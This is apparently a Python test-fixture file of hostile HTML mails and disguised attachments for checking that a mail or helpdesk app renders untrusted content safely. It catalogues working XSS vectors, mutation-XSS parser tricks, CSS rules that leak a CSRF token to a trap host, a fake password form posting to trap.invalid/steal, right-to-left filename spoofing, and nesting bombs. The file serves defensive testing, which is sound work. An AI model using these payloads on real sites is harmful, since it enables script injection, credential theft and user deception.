"""HTML mails that attack whoever reads them. `TRAP` stands for an address that nobody must ask for anything."""

TRAP = "http://trap.invalid"
RUNS = "window.attacked=1;document.title='attacked'"

_DEEP = 3_000

ATTACKS: dict[str, str] = {
    "scripts": f"""<script>{RUNS}</script><script src="{TRAP}/s.js"></script><script type=module>{RUNS}</script>
        <SCRIPT/x>{RUNS}</SCRIPT><scr<script>ipt>{RUNS}</scr</script>ipt><noscript><p title="</noscript><img src=x
        onerror={RUNS}>"></noscript>""",
    "handlers": f"""<img src=x onerror="{RUNS}"><body onload="{RUNS}"><p onmouseover="{RUNS}">hover</p>
        <details open ontoggle="{RUNS}"><summary>x</summary>y</details><p autofocus tabindex=0 onfocus="{RUNS}">f</p>
        <marquee onstart="{RUNS}">m</marquee><p onanimationstart="{RUNS}" style="animation:x 1s">a</p>
        <img/src=`x`onerror={RUNS}//><div onclick="{RUNS}" style="position:fixed;inset:0">click</div>""",
    "addresses": f"""<a href="javascript:{RUNS}">a</a><a href=" java&#10;script:{RUNS}">b</a>
        <a href="&#x6a;avascript:{RUNS}">c</a><a href="data:text/html,<script>{RUNS}</script>">d</a>
        <a href="vbscript:x">e</a><a href="//trap.invalid/x" ping="{TRAP}/ping">f</a><img src="javascript:{RUNS}">
        <img src="data:image/svg+xml,<svg onload='{RUNS}' xmlns='http://www.w3.org/2000/svg'/>">
        <a href="blob:{TRAP}/x">g</a><a href="/accounts/logout/">h</a><a href="file:///etc/passwd">i</a>""",
    "leads away": f"""<meta http-equiv="refresh" content="0;url={TRAP}/away"><base href="{TRAP}/">
        <link rel="stylesheet" href="{TRAP}/x.css"><link rel="prefetch" href="{TRAP}/p">
        <link rel="preconnect" href="{TRAP}"><link rel="dns-prefetch" href="{TRAP}"><a href="relative">r</a>
        <meta http-equiv="Content-Security-Policy" content="script-src *"><title>attacked</title>""",
    "covers the page": """<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;
        background:red">COVER</div><div style="position:absolute;inset:-9999px;z-index:9999">COVER</div>
        <div style="margin:-5000px;padding:5000px;background:red">COVER</div><p style="transform:scale(100)">COVER</p>
        <style>body,#main,.shell{display:none!important}*{position:fixed;inset:0}:host{position:fixed!important;
        inset:0!important;z-index:99999!important}</style><div class="toasts topbar sr-only" id="pane">CLASS</div>
        <p style="font-size:9000px">BIG</p><img width="99999" height="99999"
        src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
        <table width="99999" height="99999"><tr><td style="width:99999px">WIDE</td></tr></table>""",
    "leaks by styles": f"""<style>@import "{TRAP}/i.css";@font-face{{font-family:x;src:url({TRAP}/f.woff)}}
        *{{font-family:x}}input[name=csrfmiddlewaretoken][value^=a]{{background:url({TRAP}/a)}}
        body{{background:url({TRAP}/b)}}p::before{{content:url({TRAP}/c)}}</style>
        <p style="background:url({TRAP}/d);background-image:url('{TRAP}/e');
        list-style:url({TRAP}/f);
        cursor:url({TRAP}/g),auto;content:url({TRAP}/h);border-image:url({TRAP}/i)">x</p>
        <td background="{TRAP}/j">y</td>
        <table background="{TRAP}/k"><tr><td>z</td></tr></table><body background="{TRAP}/l">""",
    "forms": f"""<form action="{TRAP}/steal" method="post" id="reply"><input name="password" type="password"
        autofocus placeholder="Password"><button formaction="{TRAP}/b">Sign in</button><textarea>t</textarea>
        <select><option>o</option></select><input type="image" src="{TRAP}/i"><label>l</label></form>
        <input form="bulk" name="all" value="1"><button form="bulk">bulk</button><isindex action="{TRAP}/x">
        <button popovertarget="side">pop</button><dialog open>dialog</dialog>""",
    "drawings": f"""<svg onload="{RUNS}"><script>{RUNS}</script><foreignObject><iframe srcdoc="<script>{RUNS}</script>">
        </iframe></foreignObject><use href="{TRAP}/s.svg#x"/><image href="{TRAP}/i.png"/><animate onbegin="{RUNS}"
        attributeName=x dur=1s /><a xlink:href="javascript:{RUNS}"><text>t</text></a>
        <style>*{{display:none}}</style></svg>
        <math><mtext><table><mglyph><style><img src=x onerror="{RUNS}"></style></mglyph></table></mtext>
        <maction actiontype="statusline" xlink:href="javascript:{RUNS}">m</maction></math>""",
    "parsers": f"""<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={RUNS} src=1>">
        <svg></p><style><a id="</style><img src=1 onerror={RUNS}>"><noscript><style></noscript><img src=x
        onerror={RUNS}></style><!--><img src=x onerror={RUNS}>--><![CDATA[<img src=x onerror={RUNS}>]]>
        <table><td><svg><title><img src=x onerror={RUNS}></title></svg></td></table><textarea></textarea><img src=x
        onerror={RUNS}><xmp><p title="</xmp><img src=x onerror={RUNS}>"></xmp>""",
    "templates": f"""<template shadowrootmode="open"><style>:host{{position:fixed;inset:0}}</style>
        <script>{RUNS}</script>
        <img src=x onerror="{RUNS}"></template></template></div></div></section></article></main><h1>OUT OF THE BOX</h1>
        <slot name="x"></slot><div slot="y" is="x-y" id="ticket" name="csrfmiddlewaretoken" data-action="resolve"
        data-copy="x" data-pane-form data-preview="image" hx-get="{TRAP}/h" hx-trigger="load">z</div>
        <a href="https://x.test/" data-show-images="x" id="toasts" name="querySelector">n</a>""",
    "media": f"""<img src="{TRAP}/pixel.gif" width=1 height=1><img srcset="{TRAP}/2x.png 2x" src="{TRAP}/1.png">
        <picture><source srcset="{TRAP}/s.webp"><img src="{TRAP}/p.png"></picture><video src="{TRAP}/v.mp4" autoplay
        poster="{TRAP}/poster.png"></video><audio src="{TRAP}/a.mp3" autoplay></audio><track src="{TRAP}/t.vtt">
        <object data="{TRAP}/o"></object><embed src="{TRAP}/e"><iframe src="{TRAP}/f"></iframe><frame src="{TRAP}/g">
        <applet code=x archive="{TRAP}/j"></applet><bgsound src="{TRAP}/b"><input type=image src="{TRAP}/i">
        <img lowsrc="{TRAP}/l" dynsrc="{TRAP}/d" longdesc="{TRAP}/ld"><portal src="{TRAP}/p"></portal>
        <img src="//trap.invalid/protocol-relative.gif">
        <iframe srcdoc="<script>top.location='{TRAP}'</script>"></iframe>""",
    "deceives": """<a href="https://evil.test/">https://bank.test/</a><p>\u202egnp.exe\u202c and \u2066isolates</p>
        <a href="https://xn--80ak6aa92e.com/">apple</a><p dir="rtl">right to left \u202d</p>
        <bdo dir="rtl">\u202eNever closed""",
    "files of others": """<img src="cid:secret@other"><img src="cid:1"><img src="/attachments/1/inline/">
        <img src="attachments/1/"><a href="/attachments/1/">x</a><img src="cid:../../attachments/1">""",
    "many cells": "<table><tr>" + "<td>c</td>" * 50_000 + "</tr></table>",
    "many rows": "<table>" + "<tr><td>c</td><td>d</td></tr>" * 3_000 + "</table>",
    "long lines": "<pre>"
    + "x" * 300_000
    + "</pre><p>"
    + "y" * 300_000
    + "</p><p>"
    + "&nbsp;" * 20_000
    + "</p>",
    "deep": "<div><blockquote>" * _DEEP + "deep" + "</blockquote></div>" * _DEEP,
    "deep tables": "<table><tr><td>" * 400 + "deep" + "</td></tr></table>" * 400,
    "deep formatting": "<b><i><font color=red>" * 1_000 + "deep" + "<p>again" * 500,
}

FILES: dict[str, tuple[str, bytes]] = {
    "page.html": ("text/html", f"<script>{RUNS}</script>".encode()),
    "drawing.svg": (
        "image/svg+xml",
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUNS}"><script>{RUNS}</script></svg>'.encode(),
    ),
    "data.xml": (
        "text/xml",
        f'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUNS}</x:script>'.encode(),
    ),
    "page.xhtml": (
        "application/xhtml+xml",
        f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUNS}</script></html>'.encode(),
    ),
    "looks-like.png": ("image/png", f"<html><script>{RUNS}</script>".encode()),
    "looks-like.txt": ("text/plain", f"<html><script>{RUNS}</script>".encode()),
    "looks-like.pdf": ("application/pdf", f"<html><script>{RUNS}</script>".encode()),
    "invoice\u202egpj.exe": ("application/octet-stream", b"MZ"),
}
